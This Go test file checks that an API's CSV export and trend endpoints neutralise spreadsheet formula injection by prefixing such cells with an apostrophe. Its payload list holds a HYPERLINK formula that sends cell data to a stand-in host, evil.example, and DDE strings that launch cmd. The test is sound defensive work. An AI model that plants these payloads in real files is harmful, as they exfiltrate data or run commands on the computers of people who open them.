package api_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"dongting/api"
)

// formulaPayloads are cells a spreadsheet would run as formulas (OWASP's
// CSV injection list: = + - @, tab, carriage return).
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"点我查看")`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1",
	"\r=1+1",
	`=1+1 电梯坏了`,
}

// Every CSV the API writes neutralises formula cells with a leading ',
// and leaves text and plain numbers (a negative score, NPS) as they are.
func TestCSVFormulaInjection(t *testing.T) {
	s := newCorpusServer(t, api.Limits{})
	at := time.Now().Add(-time.Hour).Format(time.RFC3339)
	var body strings.Builder
	for i, p := range formulaPayloads {
		b, _ := json.Marshal(map[string]any{"id": fmt.Sprintf("f%d", i), "kind": "complaint", "channel": p, "org": "=华南区域/深圳/碧海花园",
			"occurred_at": at, "text": p, "nps": 0})
		body.Write(b)
		body.WriteByte('\n')
	}
	b, _ := json.Marshal(map[string]any{"id": "-1", "kind": "complaint", "channel": "app", "occurred_at": at, "text": "物业费太贵了，服务太差，非常不满意", "nps": 0})
	body.Write(b)
	code, out := do(t, "POST", s.URL+"/api/v1/records/batch?wait=indexed", "application/x-ndjson", strings.NewReader(body.String()))
	if code != 200 || out["accepted"] != float64(len(formulaPayloads)+1) {
		t.Fatalf("ingest: %d %v", code, out)
	}

	rows := getCSV(t, s.URL+"/api/v1/export?format=csv")
	byID := map[string][]string{}
	for _, r := range rows[1:] {
		byID[r[0]] = r
	}
	col := func(name string) int {
		for i, c := range rows[0] {
			if c == name {
				return i
			}
		}
		t.Fatalf("no column %s in %v", name, rows[0])
		return -1
	}
	for i, p := range formulaPayloads {
		r := byID[fmt.Sprintf("f%d", i)]
		if r == nil {
			t.Fatalf("f%d not exported: %v", i, rows)
		}
		for _, c := range []string{"channel", "text"} {
			want := p
			if c == "channel" {
				want = strings.TrimSpace(p) // ingest trims a channel
			}
			if got := r[col(c)]; got != "'"+want {
				t.Errorf("export %s %q: got %q, want it after a '", c, want, got)
			}
		}
		if got := r[col("org")]; got != "'=华南区域/深圳/碧海花园" {
			t.Errorf("export org: %q", got)
		}
	}
	// The id "-1" is a plain number; so is a negative score.
	neg := byID["-1"]
	if neg == nil || !strings.HasPrefix(neg[col("score")], "-0.") || neg[col("nps")] != "0" {
		t.Errorf("plain numbers changed: %v", neg)
	}
	for _, r := range rows[1:] {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != r[0] && cell != r[col("score")] {
				t.Errorf("a formula cell left raw: %q in %v", cell, r)
			}
		}
	}

	// The trend CSV names groups by channel: the payloads again.
	rows = getCSV(t, s.URL+"/api/v1/trends?format=csv&metric=volume&group_by=channel&interval=month")
	seen := 0
	for _, r := range rows[1:] {
		for _, p := range formulaPayloads {
			if r[1] == p || r[2] == p {
				t.Errorf("trend row with a raw formula group: %q", r)
			}
			if r[1] == "'"+p {
				seen++
			}
		}
	}
	if seen == 0 {
		t.Errorf("no payload group in the trend CSV: %v", rows)
	}
}

func getCSV(t *testing.T, url string) [][]string {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("%s: %d", url, resp.StatusCode)
	}
	r := csv.NewReader(resp.Body)
	rows, err := r.ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("%s: %d rows, %v", url, len(rows), err)
	}
	rows[0][0] = strings.TrimPrefix(rows[0][0], "\ufeff")
	return rows
}
